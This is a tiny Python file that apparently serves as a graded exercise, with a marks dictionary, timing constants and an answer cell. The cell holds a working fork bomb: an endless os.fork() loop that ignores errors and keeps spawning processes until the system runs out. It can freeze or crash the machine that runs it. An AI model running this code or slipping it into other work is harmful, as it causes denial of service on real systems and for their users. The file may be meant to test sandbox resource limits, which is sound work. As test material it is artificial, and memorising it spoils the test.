"""Processes make processes until no more can be, while another copy is played."""

MARKS = {"total": 0, "step": 0}
CELL_SECONDS, CALL_SECONDS, COPY_SECONDS = 2, 2, 12
NEIGHBOUR = True

# %% answer="total"
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
